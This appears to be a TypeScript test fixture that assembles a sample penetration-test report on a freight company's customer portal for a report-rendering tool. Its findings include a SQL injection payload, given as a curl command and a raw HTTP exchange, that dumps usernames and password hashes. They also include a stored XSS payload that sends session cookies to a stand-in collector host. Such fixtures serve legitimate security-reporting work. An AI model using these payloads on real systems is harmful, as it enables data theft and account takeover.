import { createHash } from 'node:crypto'
import type {
  BlockValue,
  DataFindingValue,
  DataSectionValue,
  InlineValue,
  ReportDataValue,
} from '@sortie/contract/reports/report-data.ts'
import { labelsFor } from '../../../src/features/reports/labels/labels.ts'
import { logo, screenshot } from './png.ts'

export interface TestDocument {
  data: ReportDataValue
  images: Map<string, Uint8Array>
}

export const t = (text: string, ...marks: NonNullable<InlineValue['marks']>): InlineValue => ({
  type: 'text',
  text,
  ...(marks.length > 0 && { marks }),
})
export const p = (...content: (InlineValue | string)[]): BlockValue => ({
  type: 'paragraph',
  content: content.map((one) => (typeof one === 'string' ? t(one) : one)),
})
export const h = (level: number, title: string): BlockValue => ({ type: 'heading', level, content: [t(title)] })
const list = (...items: string[]): BlockValue => ({ type: 'list', items: items.map((one) => [p(one)]) })
const table = (caption: string, titles: string[], rows: string[][], number: number): BlockValue => ({
  type: 'table',
  anchor: `table-${number}`,
  number,
  caption: [t(caption)],
  columns: titles.map((title) => ({ align: 'left', title: [t(title)] })),
  rows: rows.map((row) => row.map((cell) => [t(cell)])),
})

const REQUEST = `POST /api/v2/orders/search?sort=createdAt&order=desc HTTP/1.1
Host: shop.meridian-freight.example
User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36
Authorization: Bearer ••••••••
Content-Type: application/json
Content-Length: 96

{"customer":"4711","status":"open' UNION SELECT username, password_hash, NULL, NULL FROM users-- -"}`

const RESPONSE = `HTTP/1.1 200 OK
Server: nginx
Content-Type: application/json; charset=utf-8
Set-Cookie: session=••••••••; Path=/; HttpOnly

{"total":2,"orders":[{"reference":"admin","consignee":"$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$Jc1rGbpmX2K0v9QmY7n5ZsVbT8hQwErTyUiOpAsDfGh"},{"reference":"j.keller","consignee":"$argon2id$v=19$m=19456,t=2,p=1$cGVwcGVycGVwcGVy$Qm9Zc2FsdGVkLWFuZC1oYXNoZWQtc3RyaW5nLWZvci10ZXN0"}]}`

const FINDING: DataFindingValue = {
  id: 'fnd_01jd7w2v4pf1y8m3c6k9t0r5x1',
  anchor: 'finding-1',
  number: 1,
  key: 'MF-F1',
  title: 'SQL injection in the search of orders',
  severity: 'critical',
  severityReason: '',
  cvssVector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
  cvssScore: 9.3,
  state: 'approved',
  status: 'open',
  verification: 'human_verified',
  clientStatus: null,
  cwe: ['CWE-89'],
  cve: [],
  owasp: ['A03:2021'],
  wstg: ['WSTG-INPV-05'],
  attack: ['T1190'],
  tags: [],
  references: ['https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html'],
  fields: {},
  summary: [],
  description: [],
  impact: [],
  reproduction: [],
  recommendation: [],
  evidence: [],
  affected: [],
  retest: [],
}

const asset = (index: number, name: string, status: DataFindingValue['status'] = 'open', note = '') => ({
  id: `aff_01jd7w2v4pf1y8m3c6k9t0r5x${index}`,
  asset: name,
  verdict: 'in' as const,
  status,
  note,
})

const injection: DataFindingValue = {
  ...FINDING,
  summary: [
    p(
      'Any customer can read and change the whole database of the shop: the parameter ',
      t('status', 'code'),
      ' of the search reaches an SQL statement unchanged.',
    ),
  ],
  description: [
    p(
      'The search of orders builds its statement from strings. A quotation mark in ',
      t('status', 'code'),
      ' ends the literal; what follows is executed as SQL, with the rights of the account ',
      t('shop_rw', 'code'),
      '. ',
      { type: 'reference', text: 'Figure 1', target: 'figure-1' },
      ' shows the answer in the customer portal, and ',
      { type: 'reference', text: 'Table 2', target: 'table-2' },
      ' lists the tables that we read.',
    ),
    p('We read the names of users and the hashes of their passwords, then stopped. No data were changed.', {
      type: 'footnote',
      number: 1,
    }),
    table(
      'Tables within reach of the account shop_rw',
      ['Schema', 'Table', 'Rows', 'Contents'],
      [
        ['public', 'users', '18,204', 'Names, addresses, password hashes (Argon2id)'],
        ['public', 'orders', '1,204,991', 'Consignments with sender, consignee and declared value'],
        ['billing', 'invoices', '401,200', 'Invoices, IBAN of the payer'],
        ['audit', 'events', '88,120,004', 'Log of all sign-ins since 2019'],
      ],
      2,
    ),
    { type: 'footnotes', items: [[p('Agreed with Mr Keller by telephone on 12 November 2026, 14:10.')]] },
  ],
  impact: [
    p(
      'An attacker with any customer account reads all personal data of 18,204 customers, changes consignments, and takes over the accounts of employees. ',
      t('This must be reported under Article 33 GDPR if it was exploited before', 'bold'),
      '; the logs that we saw show no sign of that.',
    ),
    {
      type: 'callout',
      kind: 'warning',
      items: [[p('The same account can write files on the database server. We did not try to execute them.')]],
    },
  ],
  reproduction: [
    {
      type: 'list',
      ordered: true,
      start: 1,
      items: [
        [p('Sign in to the customer portal with any account.')],
        [p('Open ', t('Orders', 'bold'), ' and search for an open order.')],
        [
          p('Repeat the request with the payload below:'),
          {
            type: 'code',
            language: 'sh',
            text: "curl -s https://shop.meridian-freight.example/api/v2/orders/search \\\n  -H 'authorization: Bearer '\"$TOKEN\" \\\n  --data '{\"status\":\"open'\\'' UNION SELECT username, password_hash, NULL, NULL FROM users-- -\"}'",
          },
        ],
      ],
    },
    { type: 'exchange', anchor: 'exchange-1', title: 'Search with UNION SELECT', request: REQUEST, response: RESPONSE },
  ],
  evidence: [
    {
      type: 'figure',
      anchor: 'figure-1',
      number: 1,
      image: 'shot',
      alt: 'The customer portal lists names and password hashes',
      caption: [t('The customer portal lists names and password hashes of users')],
    },
  ],
  recommendation: [
    p(
      'Pass every value as a parameter of a prepared statement; the ORM in use does so with ',
      t('where({ status })', 'code'),
      '. Then:',
    ),
    list(
      'Give the account of the shop only the rights on the tables that it needs.',
      'Add a test that sends quotation marks to every parameter of the API.',
      'Rotate the passwords of all employees, because their hashes were readable.',
    ),
    {
      type: 'list',
      checked: [true, false],
      items: [[p('Search for other statements made from strings')], [p('Alert on errors of SQL syntax')]],
    },
  ],
  affected: [
    asset(1, 'https://shop.meridian-freight.example/api/v2/orders/search', 'open', 'Parameter status'),
    asset(
      2,
      'https://partner.meridian-freight.example/api/v2/orders/search',
      'fixed',
      'Behind the VPN of the partners',
    ),
  ],
  retest: [
    {
      asset: 'https://shop.meridian-freight.example/api/v2/orders/search',
      before: 'open',
      after: 'open',
      note: 'The filter of UNION can be bypassed with comments',
      testedOn: '2026-11-20',
      testedOnText: '20 November 2026',
    },
    {
      asset: 'https://partner.meridian-freight.example/api/v2/orders/search',
      before: 'open',
      after: 'fixed',
      note: '',
      testedOn: '2026-11-20',
      testedOnText: '20 November 2026',
    },
  ],
}

const short = (
  number: number,
  title: string,
  severity: DataFindingValue['severity'],
  score: number | null,
  text: string,
  advice: string,
  change: Partial<DataFindingValue> = {},
): DataFindingValue => ({
  ...FINDING,
  id: `fnd_01jd7w2v4pf1y8m3c6k9t0r5x${number}`,
  anchor: `finding-${number}`,
  number,
  key: `MF-F${number}`,
  title,
  severity,
  cvssScore: score,
  cvssVector: score === null ? null : 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N',
  cwe: ['CWE-79'],
  wstg: [],
  attack: [],
  references: [],
  summary: [p(text)],
  description: [p(text), p('We found it on each page that we looked at, and it does not depend on the browser.')],
  impact: [p('Attackers act as the person who opens the page.')],
  recommendation: [p(advice)],
  affected: [asset(number + 2, 'shop.meridian-freight.example:443')],
  ...change,
})

export const FINDINGS: DataFindingValue[] = [
  injection,
  short(
    2,
    'Stored cross-site scripting in comments on consignments',
    'high',
    7.6,
    'Comments are inserted into pages as HTML.',
    'Encode text where it is inserted, and send a Content Security Policy without unsafe-inline.',
    {
      reproduction: [
        p('Save this comment, then open the consignment as an employee:'),
        {
          type: 'code',
          language: 'html',
          text: '<img src=x onerror="fetch(\'https://collector.example/?c=\' + encodeURIComponent(document.cookie))">',
        },
      ],
    },
  ),
  short(
    3,
    'Passwords of partners are stored with MD5',
    'high',
    7.1,
    'The table partners has unsalted MD5 hashes.',
    'Use Argon2id, and convert each hash at the next sign-in.',
    { status: 'partly_fixed', cwe: ['CWE-328'] },
  ),
  short(
    4,
    'Session does not end on sign-out',
    'medium',
    5.4,
    'The session cookie works for 24 hours after signing out.',
    'Delete the session on the server.',
    {
      clientStatus: {
        state: 'planned',
        until: '2027-01-31',
        untilText: '31 January 2027',
        reason: 'Part of release 4.2',
      },
    },
  ),
  short(
    5,
    'TLS 1.0 and 1.1 are accepted',
    'low',
    3.1,
    'The load balancer accepts TLS 1.0 and 1.1.',
    'Accept TLS 1.2 and 1.3 only.',
    {
      status: 'fixed',
      affected: Array.from({ length: 24 }, (_, index) =>
        asset(index + 10, `10.20.${index}.14:443`, index % 3 === 0 ? 'fixed' : 'open'),
      ),
    },
  ),
  short(
    6,
    'Version of the web server in headers',
    'info',
    null,
    'The header Server names the version.',
    'Set server_tokens to off.',
  ),
]

export const section = (
  number: number,
  key: string,
  title: string,
  blocks: BlockValue[],
  live: DataSectionValue['live'] = null,
): DataSectionValue => ({
  id: `sec_01jd7w2v4pf1y8m3c6k9t0r5x${number}`,
  anchor: `section-${key}`,
  key,
  title,
  number: String(number),
  kind: live === null ? 'text' : 'live',
  live,
  blocks,
})

const summary = section(1, 'management_summary', 'Management summary', [
  p(
    'Meridian Freight AG asked us to test its customer portal and the interface for partners before the release in December. Two people tested from 9 to 20 November 2026, with two accounts of customers and one of a partner.',
  ),
  p(
    t('The portal should not go live as it is.', 'bold'),
    ' One weakness lets any customer read and change the database. It is quick to fix, and we recommend to do so before anything else. The other findings are typical of an application of this age and can be planned.',
  ),
  { type: 'severity_chart', anchor: 'chart', number: 1, caption: [t('Findings by severity')] },
  h(1, 'What we recommend'),
  {
    type: 'list',
    ordered: true,
    items: [
      [p(t('Now: ', 'bold'), 'fix the search of orders and rotate the passwords of employees.')],
      [p(t('Before the release: ', 'bold'), 'encode comments, replace MD5, end sessions on the server.')],
      [p(t('Later: ', 'bold'), 'retire TLS 1.0, and review statements made from strings once a year.')],
    ],
  },
])
const scope = section(
  2,
  'scope',
  'Scope and approach',
  [
    p(
      'The scope was agreed in the letter of authorization of 2 November 2026. Denial of service and social engineering were excluded.',
    ),
    table(
      'Systems in scope',
      ['System', 'Kind', 'Decision', 'Note'],
      [
        ['shop.meridian-freight.example', 'Web application', 'In scope', 'Customer portal, release 4.1'],
        ['partner.meridian-freight.example', 'Web application', 'In scope', 'Interface for partners'],
        ['10.20.0.0/16', 'Network', 'Caution', 'Only between 20:00 and 06:00'],
        ['legacy.meridian-freight.example', 'Web application', 'Out of scope', 'Operated by another company'],
      ],
      1,
    ),
    h(1, 'Approach'),
    p(
      'We followed the ',
      {
        type: 'link',
        text: 'OWASP Web Security Testing Guide',
        href: 'https://owasp.org/www-project-web-security-testing-guide/',
      },
      ' and tested by hand; tools only helped to cover the surface. Every finding was confirmed by a person.',
    ),
    {
      type: 'quote',
      items: [
        [
          p(
            '“Please treat the partner interface with the same care as the portal: it moves more money.” (Kick-off, 5 November)',
          ),
        ],
      ],
    },
    { type: 'callout', kind: 'note', items: [[p('Severities follow CVSS. Where we deviate, the finding says why.')]] },
  ],
  'scope',
)
const results = section(3, 'findings_overview', 'Findings at a glance', [], 'findings_table')
const details = section(4, 'findings', 'Findings in detail', [{ type: 'findings' }], 'findings')
const team = section(
  5,
  'team',
  'Team and contacts',
  [
    table(
      'Who tested',
      ['Name', 'Role', 'E-mail'],
      [
        ['Ada Lovelace', 'Lead', 'ada@northwind.example'],
        ['Grace Hopper', 'Tester', 'grace@northwind.example'],
      ],
      3,
    ),
    { type: 'rule' },
    p(
      'Questions about this report: ',
      { type: 'link', text: 'ada@northwind.example', href: 'mailto:ada@northwind.example' },
      '.',
    ),
  ],
  'team',
)

const SEVERITIES = [
  { key: 'critical', name: 'Critical', color: '#8f1d2c' },
  { key: 'high', name: 'High', color: '#c8402f' },
  { key: 'medium', name: 'Medium', color: '#d98a1c' },
  { key: 'low', name: 'Low', color: '#3f7fbf' },
  { key: 'info', name: 'Info', color: '#7b8794' },
] as const

export const severitiesOf = (findings: readonly DataFindingValue[]): ReportDataValue['severities'] =>
  SEVERITIES.map((one) => ({ ...one, count: findings.filter(({ severity }) => severity === one.key).length }))

const imageOf = (bytes: Uint8Array, width: number, height: number) => ({
  mediaType: 'image/png' as const,
  width,
  height,
  sha256: createHash('sha256').update(bytes).digest('hex'),
})

/** A report of a penetration test as report-data, written by hand; `change` replaces parts of it. */
export const reportDocument = (change: Partial<ReportDataValue> = {}): TestDocument => {
  const [shot, mark] = [screenshot(), logo()]
  const data: ReportDataValue = {
    version: 1,
    language: 'en',
    direction: 'ltr',
    watermark: null,
    report: {
      id: 'rpt_01jd7w2v4pf1y8m3c6k9t0r5xz',
      title: 'Penetration test of the customer portal',
      kind: 'final',
      state: 'approved',
      version: '1',
      date: '2026-11-27',
      dateText: '27 November 2026',
      authors: ['Ada Lovelace', 'Grace Hopper'],
      approvedBy: 'Katherine Johnson',
    },
    organization: { name: 'Northwind Security' },
    client: { name: 'Meridian Freight AG', shortName: 'Meridian', domains: ['meridian-freight.example'] },
    engagement: {
      id: 'eng_01jd7w2v4pf1y8m3c6k9t0r5xz',
      name: 'Customer portal 4.1',
      kinds: ['web'],
      startsOn: '2026-11-09',
      endsOn: '2026-11-20',
      period: '9 to 20 November 2026',
      fields: {},
    },
    team: [],
    contacts: [],
    design: {
      paper: 'a4',
      accent: '#1f4fd8',
      logo: 'logo',
      fonts: { body: 'Inter', heading: 'Inter', code: 'JetBrains Mono' },
      header: 'Penetration test of the customer portal',
      footer: 'Northwind Security',
      cover: {
        title: '',
        subtitle: 'Web application and interface for partners',
        note: 'This report is confidential. It is for the people named in the letter of authorization only.',
      },
      classification: 'tlp-amber',
      classificationLabel: 'TLP:AMBER',
      findingParts: [
        'facts',
        'summary',
        'description',
        'affected',
        'impact',
        'reproduction',
        'evidence',
        'recommendation',
        'references',
        'retest',
      ],
      groupBySeverity: false,
      tableOfContents: true,
    },
    labels: labelsFor(change.language ?? 'en'),
    severities: severitiesOf(change.findings ?? FINDINGS),
    findings: FINDINGS,
    sections: [summary, scope, results, details, team],
    images: { shot: imageOf(shot, 1200, 700), logo: imageOf(mark, 360, 96) },
    ...change,
  }
  return {
    data: structuredClone(data),
    images: new Map([
      ['shot', shot],
      ['logo', mark],
    ]),
  }
}
